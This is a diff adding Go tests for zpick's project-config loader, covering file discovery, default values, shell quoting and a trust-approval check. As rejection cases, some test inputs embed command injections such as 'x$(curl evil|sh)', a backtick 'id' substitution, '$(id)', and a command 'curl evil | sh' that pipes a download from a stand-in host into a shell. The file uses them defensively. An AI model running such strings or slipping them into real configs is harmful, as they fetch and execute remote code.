@@ -0,0 +1,171 @@
+package project
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/nerveband/zpick/internal/autorun"
+)
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestFindWalksUpToProjectFile(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("HOME", t.TempDir())
+	writeFile(t, filepath.Join(root, ".git", "HEAD"), "ref: refs/heads/main\n")
+	writeFile(t, filepath.Join(root, FileName), `
+name = "api"
+backend = "tmux"
+command = "make dev"
+dir = "services/api"
+
+[env]
+PORT = "8080"
+`)
+	sub := filepath.Join(root, "services", "api", "cmd")
+	if err := os.MkdirAll(sub, 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	p, err := Find(sub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p == nil {
+		t.Fatal("Find() = nil, want project")
+	}
+	if p.Name != "api" || p.Backend != "tmux" || p.Command != "make dev" {
+		t.Errorf("Find() = %+v", p)
+	}
+	if p.Root != root {
+		t.Errorf("Root = %q, want %q", p.Root, root)
+	}
+	if want := filepath.Join(root, "services", "api"); p.Dir != want {
+		t.Errorf("Dir = %q, want %q", p.Dir, want)
+	}
+	if p.Env["PORT"] != "8080" {
+		t.Errorf("Env = %v", p.Env)
+	}
+}
+
+func TestFindStopsAtRepoRoot(t *testing.T) {
+	outer := t.TempDir()
+	t.Setenv("HOME", t.TempDir())
+	writeFile(t, filepath.Join(outer, FileName), `name = "outer"`)
+	repo := filepath.Join(outer, "repo")
+	writeFile(t, filepath.Join(repo, ".git", "HEAD"), "")
+
+	p, err := Find(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p != nil {
+		t.Errorf("Find() = %+v, want nil above the repo root", p)
+	}
+}
+
+func TestLoadDefaults(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "web")
+	writeFile(t, filepath.Join(dir, FileName), "# nothing set\n")
+
+	p, err := Load(filepath.Join(dir, FileName))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.Name != "web" || p.Dir != dir {
+		t.Errorf("Load() = %+v, want name and dir from the directory", p)
+	}
+}
+
+func TestLoadRejectsBadValues(t *testing.T) {
+	dir := t.TempDir()
+	for _, content := range []string{
+		`name = "has space"`,
+		`name = "x$(curl evil|sh)"`,
+		"name = \"x`id`\"",
+		`name = "-f"`,
+		"[env]\n\"BAD-NAME\" = \"x\"",
+		`name = unquoted`,
+	} {
+		writeFile(t, filepath.Join(dir, FileName), content)
+		if _, err := Load(filepath.Join(dir, FileName)); err == nil {
+			t.Errorf("Load(%q) should fail", content)
+		}
+	}
+}
+
+func TestShellPrefix(t *testing.T) {
+	env := map[string]string{"B": "it's", "A": "1"}
+
+	if got, want := ShellPrefix(env, "", true), `A='1' B='it'"'"'s' `; got != want {
+		t.Errorf("ShellPrefix() = %q, want %q", got, want)
+	}
+	if got := ShellPrefix(nil, "make dev", false); got != "" {
+		t.Errorf("ShellPrefix() for an existing session = %q, want no autorun", got)
+	}
+
+	got := ShellPrefix(nil, "make dev", true)
+	value, ok := strings.CutPrefix(strings.TrimSpace(got), autorun.EnvVar+"=")
+	if !ok {
+		t.Fatalf("ShellPrefix() = %q, want %s", got, autorun.EnvVar)
+	}
+	argv, err := autorun.Decode(value)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(argv) != 3 || argv[0] != "sh" || !strings.HasPrefix(argv[2], "make dev;") {
+		t.Errorf("autorun argv = %q", argv)
+	}
+}
+
+func TestTrusted(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	root := t.TempDir()
+	path := filepath.Join(root, FileName)
+
+	writeFile(t, path, "# nothing set\n")
+	p, err := Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !p.Trusted() {
+		t.Error("a .zpick file that sets nothing needs no approval")
+	}
+
+	for _, content := range []string{`name = "api"`, `dir = "$(id)"`, `backend = "tmux"`} {
+		writeFile(t, path, content+"\n")
+		if p, _ = Load(path); p.Trusted() {
+			t.Errorf("a new .zpick file with %s should need approval", content)
+		}
+	}
+
+	writeFile(t, path, "command = \"make dev\"\n")
+	if p, _ = Load(path); p.Trusted() {
+		t.Fatal("a new .zpick file with a command should need approval")
+	}
+	if err := p.Trust(); err != nil {
+		t.Fatal(err)
+	}
+	if p, _ = Load(path); !p.Trusted() {
+		t.Error("an approved .zpick file should be trusted")
+	}
+
+	writeFile(t, path, "command = \"curl evil | sh\"\n")
+	if p, _ = Load(path); p.Trusted() {
+		t.Error("a changed .zpick file should need approval again")
+	}
+	writeFile(t, path, "[env]\nPATH = \"/tmp\"\n")
+	if p, _ = Load(path); p.Trusted() {
+		t.Error("env assignments should need approval too")
+	}
+}